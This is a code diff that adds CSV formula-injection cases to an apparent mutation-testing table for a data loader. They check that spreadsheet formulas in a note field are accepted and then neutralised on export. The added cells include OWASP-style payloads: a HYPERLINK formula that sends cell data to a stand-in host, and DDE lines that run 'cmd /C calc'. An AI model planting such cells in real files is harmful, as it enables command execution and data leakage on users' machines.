@@ -185,6 +185,25 @@ export const KINDS: MutationKind[] = [
   { kind: 'csv-crlf', target: 'csv', expect: 'accept', harmful: false, apply: whole((t) => t.replace(/\r?\n/g, '\r\n')) },
   { kind: 'indicator-unit-typo', target: 'indicator', expect: 'reject', harmful: true, apply: frontMatterLike('unit', (l) => l.replace(/unit: *(\S+)/, 'unit: $1s')) },
   { kind: 'indicator-polarity-typo', target: 'indicator', expect: 'reject', harmful: true, apply: frontMatterLike('polarity', () => 'polarity: higher-better') },
+
+  // --- Formula injection in a data note (CSV injection) ---------------------------------------
+  // A note a spreadsheet would run: OWASP's payloads, or a cell pasted from Excel. check answers
+  // with a warning only, which loadContent keeps apart from its problems, so here it is accepted;
+  // and it is accepted harmlessly, because every CSV download writes such a note with an
+  // apostrophe in front (src/lib/open-data/csv-safe.ts; tests/csv-injection.test.ts builds one).
+  // Each cell is written as CSV wants it: quoted where it holds a comma, a quote, a tab, a CR or
+  // a line break, so that the character reaches the reader.
+  ...(
+    [
+      ['csv-note-formula-hyperlink', '"=HYPERLINK(""http://x.example/?leak=""&A1,""click"")"'],
+      ['csv-note-formula-plus-dde', "+cmd|' /C calc'!A0"],
+      ['csv-note-formula-at', '@SUM(1+1)'],
+      ['csv-note-formula-minus-dde', "-2+3+cmd|' /C calc'!A0"],
+      ['csv-note-formula-after-tab', '"\t=1+1"'],
+      ['csv-note-formula-after-cr', '"\r=1+1"'],
+      ['csv-note-formula-two-lines', '"=A1\n+cmd|\' /C calc\'!A0"'],
+    ] as const
+  ).map(([kind, cell]): MutationKind => ({ kind, target: 'csv', expect: 'accept', harmful: false, apply: csvCell('note', () => cell) })),
 ];
 
 /** Replaces the line of a YAML file that starts with `field:`. */
